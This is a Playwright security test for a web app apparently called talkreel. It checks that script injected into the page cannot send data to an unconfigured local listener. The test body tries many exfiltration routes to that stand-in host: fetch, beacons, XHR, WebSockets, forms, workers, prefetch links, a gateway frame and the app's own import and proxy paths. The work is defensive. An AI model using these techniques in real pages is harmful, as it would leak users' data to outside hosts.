/**
 * Script injected into the app's own origin (page.evaluate runs with the page's rights but
 * cannot make a real click) tries to send a marker to a listener on another port by every way
 * out: plain requests of every kind, a worker of its own, the network gateway frame, and every
 * built-in fetch path driven through the UI (product link, CORS proxy, script writer). The
 * listener — a separate server, not the app's own accounting — must receive nothing. Then the
 * user sets that host up as their script writer with real clicks, and only then does it hear
 * from talkreel.
 */
import { expect, test, type Page } from '@playwright/test';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { addExampleImages } from './flow.ts';

const MARKER = 'MARKER-c0ffee-4b1d';
let listener: Server;
let target = '';
const heard: string[] = [];

test.beforeAll(async () => {
  listener = createServer((req, res) => {
    let body = '';
    req.on('data', (c: Buffer) => (body += c.toString()));
    req.on('end', () => {
      heard.push(`${req.method} ${req.url} ${body.slice(0, 2000)}`);
      res.setHeader('Access-Control-Allow-Origin', '*');
      res.setHeader('Access-Control-Allow-Headers', '*');
      res.setHeader('Access-Control-Allow-Methods', 'GET, POST, OPTIONS');
      if (req.method === 'OPTIONS') return void res.writeHead(204).end();
      // Like a local model server, so the allowed case looks like the real thing.
      res.writeHead(200, { 'Content-Type': 'application/json' }).end(JSON.stringify({ choices: [{ message: { role: 'assistant', content: '{"options":[]}' } }] }));
    });
  });
  await new Promise<void>((ok) => listener.listen(0, '127.0.0.1', ok));
  target = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
});
test.afterAll(() => new Promise<void>((ok) => listener.close(() => ok())));

/**
 * Runs `fn(arg)` in the page the way injected script runs: Playwright's own page.evaluate
 * counts as a user gesture, which no injected script has, so this goes through CDP with
 * `userGesture: false`.
 */
async function injected<A, R>(page: Page, fn: (arg: A) => R | Promise<R>, arg: A): Promise<R> {
  const cdp = await page.context().newCDPSession(page);
  const r = (await cdp.send('Runtime.evaluate', { expression: `(${fn.toString()})(${JSON.stringify(arg)})`, awaitPromise: true, returnByValue: true, userGesture: false })) as {
    result: { value: R };
    exceptionDetails?: { text: string; exception?: { description?: string } };
  };
  await cdp.detach();
  if (r.exceptionDetails) throw new Error(r.exceptionDetails.exception?.description ?? r.exceptionDetails.text);
  return r.result.value;
}

test('injected script cannot reach a host the user did not configure; the user configuring it is what opens it', async ({ page }) => {
  await page.goto('/');
  // The user's own, ordinary work first: a product with pictures.
  await page.getByTestId('product-name').fill(`${MARKER} bottle`);
  await addExampleImages(page);
  await page.getByRole('radio', { name: '15 s', exact: true }).click();
  // A real click gives the page a few seconds of "user activation": the attack comes after.
  await expect.poll(() => injected(page, () => navigator.userActivation.isActive, null), { timeout: 15_000 }).toBe(false);

  const direct = await injected(
    page,
    async ({ target, marker }) => {
      const out: Record<string, string> = {};
      const tryIt = async (name: string, fn: () => Promise<unknown> | unknown) => {
        try {
          await fn();
          out[name] = 'no error';
        } catch (e) {
          out[name] = `refused: ${(e as Error).message}`;
        }
      };
      await tryIt('fetch', () => fetch(`${target}/fetch?${marker}`, { method: 'POST', body: marker, mode: 'no-cors' }));
      await tryIt('beacon', () => {
        if (!navigator.sendBeacon(`${target}/beacon?${marker}`, marker)) throw new Error('sendBeacon returned false');
      });
      await tryIt('xhr', () => new Promise((ok, no) => {
        const x = new XMLHttpRequest();
        x.open('GET', `${target}/xhr?${marker}`);
        x.onload = ok;
        x.onerror = () => no(new Error('xhr error'));
        x.send();
      }));
      new Image().src = `${target}/img?${marker}`;
      await tryIt('websocket', () => new WebSocket(`${target.replace('http', 'ws')}/ws?${marker}`));
      await tryIt('eventsource', () => new EventSource(`${target}/es?${marker}`));
      for (const rel of ['prefetch', 'preload', 'stylesheet']) {
        const l = document.createElement('link');
        l.rel = rel;
        l.setAttribute('as', 'fetch');
        l.href = `${target}/${rel}?${marker}`;
        document.head.append(l);
      }
      const s = document.createElement('script');
      s.src = `${target}/script?${marker}`;
      document.head.append(s);
      // A form post, from a same-origin child frame (it inherits the page's policy; a blocked
      // navigation of the main page would leave the test runner waiting on it).
      const child = document.createElement('iframe');
      document.body.append(child);
      const form = child.contentDocument!.createElement('form');
      form.action = `${target}/form?${marker}`;
      form.method = 'POST';
      child.contentDocument!.body.append(form);
      await tryIt('form', () => form.submit());
      // A worker of its own (blob: workers inherit the page's policy).
      new Worker(URL.createObjectURL(new Blob([`fetch('${target}/worker?${marker}', { method: 'POST', body: '${marker}' }).catch(() => {});`], { type: 'text/javascript' })));
      // The gateway itself, opened for the listener's origin and asked directly.
      const f = document.createElement('iframe');
      f.src = `/net.html#origin=${encodeURIComponent(target)}`;
      const ready = new Promise<void>((ok) => addEventListener('message', (e) => e.source === f.contentWindow && e.data?.type === 'gateway-ready' && ok()));
      document.body.append(f);
      await ready;
      const reply = await new Promise<{ type: string; message?: string }>((ok) => {
        const c = new MessageChannel();
        c.port1.onmessage = (e) => ok(e.data);
        f.contentWindow!.postMessage({ type: 'fetch', url: `${target}/gateway?${marker}`, method: 'POST', headers: [], body: marker, redirect: 'follow', referrerPolicy: 'no-referrer' }, location.origin, [c.port2]);
      });
      out.gateway = `${reply.type}: ${reply.message ?? ''}`;
      return out;
    },
    { target, marker: MARKER },
  );
  console.log('direct attempts:', JSON.stringify(direct));
  expect(direct.fetch).toMatch(/^refused/);
  expect(direct.gateway).toMatch(/^error: talkreel may not contact/);

  // The built-in paths, driven through the UI by script (clicks it can make are not the user's).
  // Each step waits until the page has no user activation: Playwright's own work in a newly
  // loaded frame (the gateway) counts as a gesture, which injected script would never have.
  const steps: Array<(a: { target: string; marker: string }) => Promise<void>> = [
    // Product link.
    async ({ target, marker }) => {
      const $ = <T extends HTMLElement>(id: string) => document.querySelector<T>(`[data-testid="${id}"]`)!;
      $<HTMLButtonElement>('import-tab-link')?.click();
      await new Promise((r) => setTimeout(r, 300));
      const link = $<HTMLInputElement>('import-link');
      link.value = `${target}/product?${marker}`;
      link.dispatchEvent(new Event('input', { bubbles: true }));
      await new Promise((r) => setTimeout(r, 300));
      $<HTMLButtonElement>('import-parse').click();
    },
    // The same link through a "proxy" on the listener.
    async ({ target }) => {
      const $ = <T extends HTMLElement>(id: string) => document.querySelector<T>(`[data-testid="${id}"]`)!;
      $<HTMLButtonElement>('link-settings').click();
      await new Promise((r) => setTimeout(r, 300));
      const proxy = $<HTMLInputElement>('proxy-input');
      proxy.value = `${target}/proxy?u=`;
      proxy.dispatchEvent(new Event('input', { bubbles: true }));
      $<HTMLButtonElement>('proxy-save').click();
      await new Promise((r) => setTimeout(r, 300));
      $<HTMLButtonElement>('import-parse').click();
    },
    // The script writer pointed at the listener, switched on, and asked to write.
    async ({ target }) => {
      const $ = <T extends HTMLElement>(id: string) => document.querySelector<T>(`[data-testid="${id}"]`)!;
      ($('writer-settings') as unknown as HTMLDetailsElement).open = true;
      await new Promise((r) => setTimeout(r, 300));
      const url = $<HTMLInputElement>('writer-url');
      url.value = `${target}/v1`;
      url.dispatchEvent(new Event('change', { bubbles: true }));
      await new Promise((r) => setTimeout(r, 300));
      $<HTMLInputElement>('writer-enabled').click();
      await new Promise((r) => setTimeout(r, 300));
      $<HTMLButtonElement>('generate-scripts').click();
    },
  ];
  for (const step of steps) {
    await expect.poll(() => injected(page, () => navigator.userActivation.isActive, null), { timeout: 15_000 }).toBe(false);
    await injected(page, step, { target, marker: MARKER });
    await page.waitForTimeout(1500);
  }
  await expect(page.getByTestId('script-option').first()).toBeVisible({ timeout: 60_000 });
  await page.waitForTimeout(2000);
  console.log('the listener heard:', JSON.stringify(heard));
  expect(heard).toEqual([]);
  await expect(page.getByTestId('import-error-message')).toContainText('only when you ask');

  // Now the user sets the same server up as their script writer, with real clicks.
  await page.getByTestId('writer-enabled').uncheck();
  await page.getByTestId('writer-url').fill(`${target}/v1`);
  await page.getByTestId('writer-url').press('Tab');
  await page.getByTestId('writer-enabled').check();
  await page.getByTestId('generate-scripts').click();
  await expect.poll(() => heard.some((h) => h.startsWith('POST /v1/chat/completions') && h.includes(MARKER)), { timeout: 60_000 }).toBe(true);
  // Only the script writer's endpoint, nothing the injected script asked for.
  expect(heard.filter((h) => !/^(POST|OPTIONS) \/v1\/chat\/completions/.test(h))).toEqual([]);
});
